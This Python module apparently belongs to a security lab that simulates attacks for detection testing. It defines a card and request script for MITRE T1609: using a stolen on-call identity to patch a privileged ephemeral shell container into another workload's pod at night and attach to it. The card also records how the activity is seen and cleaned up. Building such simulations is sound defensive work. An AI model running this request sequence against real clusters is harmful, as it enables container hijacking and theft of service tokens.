"""Attack: ephemeral container put into a running pod.

Found by `catalog`; run by `run`. What it does and how it should be seen stands in the card.
"""

from __future__ import annotations

from riverwatch import vocabulary
from riverwatch.lab.attacks import base, cast, context, paths

CARD = base.Card(
    id="ephemeral-container",
    title="Ephemeral container put into a running pod",
    technique=base.Technique(id="T1609", name="Container Administration Command", tactic="Execution"),
    use_case=vocabulary.UseCase.EXECUTION,
    subtlety=base.Subtlety.OBVIOUS,
    does=(
        "Adds a debugging container with a shell to a running pod of another workload at night and attaches to "
        "it, to share its processes and its token."
    ),
    seen_by="A change of pods/ephemeralcontainers, a privileged one, at an hour without an incident.",
    cleans_up="A pod of its own, made before the attack, is deleted.",
    victim=base.Part.ONCALL,
    reach=base.Reach.CLUSTER,
    when=base.When.NIGHT,
    needs=("kubelet endpoint: without one the API server answers the attach with an error",),
)
"""What a reader should know before it is run."""


def script(ctx: context.AttackContext) -> base.Script:
    """Yield the requests of the story, in order."""
    victim = ctx.victim(base.Part.ONCALL)
    thief = ctx.act_as(victim)
    namespace = ctx.rng.choice(ctx.namespaces())
    name = ctx.name("front-6f7c9")
    ctx.ensure(paths.core("pods", namespace), cast.pod(name, "default"))
    yield thief.get(paths.core("pods", namespace), {"limit": 500})
    container = {
        "name": "debugger-x7k2p",
        "image": "docker.io/nicolaka/netshoot:v0.13",
        "command": ["sh"],
        "stdin": True,
        "tty": True,
        "targetContainerName": "main",
        "securityContext": {"privileged": True},
    }
    patch = {"spec": {"ephemeralContainers": [container]}}
    yield thief.patch(paths.core("pods", namespace, name, "ephemeralcontainers"), patch)
    yield thief.stream(
        paths.core("pods", namespace, name, "attach"),
        {"container": "debugger-x7k2p", "stdin": "true", "stdout": "true", "tty": "true"},
    )


ATTACK = base.Attack(card=CARD, script=script)
"""The entry that `catalog` looks for."""
